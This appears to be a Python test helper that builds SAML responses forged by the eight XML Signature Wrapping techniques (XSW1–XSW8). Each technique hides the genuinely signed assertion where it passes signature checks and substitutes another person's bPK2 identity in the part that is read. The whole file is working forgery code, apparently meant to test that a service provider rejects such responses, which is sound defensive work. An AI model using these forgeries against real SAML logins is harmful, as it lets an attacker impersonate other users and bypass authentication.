"""The eight ways to wrap a signed answer so that what is verified is not what is read (Somorovsky et al. 2012)."""

from collections.abc import Callable
from copy import deepcopy

from lxml import etree
from onelogin.saml2.constants import OneLogin_Saml2_Constants as Saml

EVIL = "ZXZpbCBldmlsIGV2aWwgZXZpbA=="
"""The bPK2 of somebody else."""
_SIGNATURE = f"{{{Saml.NS_DS}}}Signature"


def wrapped(xml: str, attack: str, key: str) -> str:
    """``xml`` with one assertion, not encrypted; ``key`` is the bPK2 in it, which the forgery says is EVIL."""
    root = etree.fromstring(xml.encode())
    return etree.tostring(_ATTACKS[attack](root, key), encoding="unicode")


def _assertion(root: etree._Element) -> etree._Element:
    return root.find(f"{{{Saml.NS_SAML}}}Assertion")


def _forged(element: etree._Element, key: str, new_id: str = "_evil") -> etree._Element:
    """A copy that says EVIL, without signatures."""
    forged = etree.fromstring(etree.tostring(element).replace(key.encode(), EVIL.encode()))
    for signature in list(forged.iter(_SIGNATURE)):
        signature.getparent().remove(signature)
    for number, named in enumerate(forged.xpath("descendant-or-self::*[@ID]") if new_id else ()):
        named.set("ID", f"{new_id}{number}")
    return forged


def _bare(element: etree._Element) -> tuple[etree._Element, etree._Element]:
    """A copy without its own signature, and the signature."""
    bare = deepcopy(element)
    signature = bare.find(_SIGNATURE)
    bare.remove(signature)
    return bare, signature


def _after_issuer(element: etree._Element, *added: etree._Element) -> None:
    for one in reversed(added):
        element[0].addnext(one)


def _xsw1(root: etree._Element, key: str) -> etree._Element:
    """The signed response inside its own signature, in a forged response."""
    bare, signature = _bare(root)
    forged = _forged(root, key)
    signature.append(bare)
    _after_issuer(forged, signature)
    return forged


def _xsw2(root: etree._Element, key: str) -> etree._Element:
    """The signed response before its signature, in a forged response."""
    bare, signature = _bare(root)
    forged = _forged(root, key)
    _after_issuer(forged, bare, signature)
    return forged


def _xsw3(root: etree._Element, key: str) -> etree._Element:
    """A forged assertion before the signed one."""
    signed = _assertion(root)
    signed.addprevious(_forged(signed, key))
    return root


def _xsw4(root: etree._Element, key: str) -> etree._Element:
    """The signed assertion inside a forged one."""
    signed = _assertion(root)
    forged = _forged(signed, key)
    root.replace(signed, forged)
    forged.append(signed)
    return root


def _xsw5(root: etree._Element, key: str) -> etree._Element:
    """The signature in the forged assertion, what it signs at the end."""
    signed = _assertion(root)
    bare, signature = _bare(signed)
    forged = _forged(signed, key)
    _after_issuer(forged, signature)
    root.replace(signed, forged)
    root.append(bare)
    return root


def _xsw6(root: etree._Element, key: str) -> etree._Element:
    """The signature in the forged assertion, what it signs inside the signature."""
    signed = _assertion(root)
    bare, signature = _bare(signed)
    forged = _forged(signed, key)
    signature.append(bare)
    _after_issuer(forged, signature)
    root.replace(signed, forged)
    return root


def _xsw7(root: etree._Element, key: str) -> etree._Element:
    """A forged assertion with the same ID among the extensions, whose schema allows anything."""
    signed = _assertion(root)
    extensions = etree.Element(f"{{{Saml.NS_SAMLP}}}Extensions")
    extensions.append(_forged(signed, key, new_id=""))
    _after_issuer(root, extensions)
    return root


def _xsw8(root: etree._Element, key: str) -> etree._Element:
    """The signature in the forged assertion, what it signs in an object of the signature, with the same ID."""
    signed = _assertion(root)
    bare, signature = _bare(signed)
    forged = _forged(signed, key, new_id="")
    holder = etree.SubElement(signature, f"{{{Saml.NS_DS}}}Object")
    holder.append(bare)
    _after_issuer(forged, signature)
    root.replace(signed, forged)
    return root


_ATTACKS: dict[str, Callable[[etree._Element, str], etree._Element]] = {
    "XSW1": _xsw1,
    "XSW2": _xsw2,
    "XSW3": _xsw3,
    "XSW4": _xsw4,
    "XSW5": _xsw5,
    "XSW6": _xsw6,
    "XSW7": _xsw7,
    "XSW8": _xsw8,
}
ATTACKS = list(_ATTACKS)
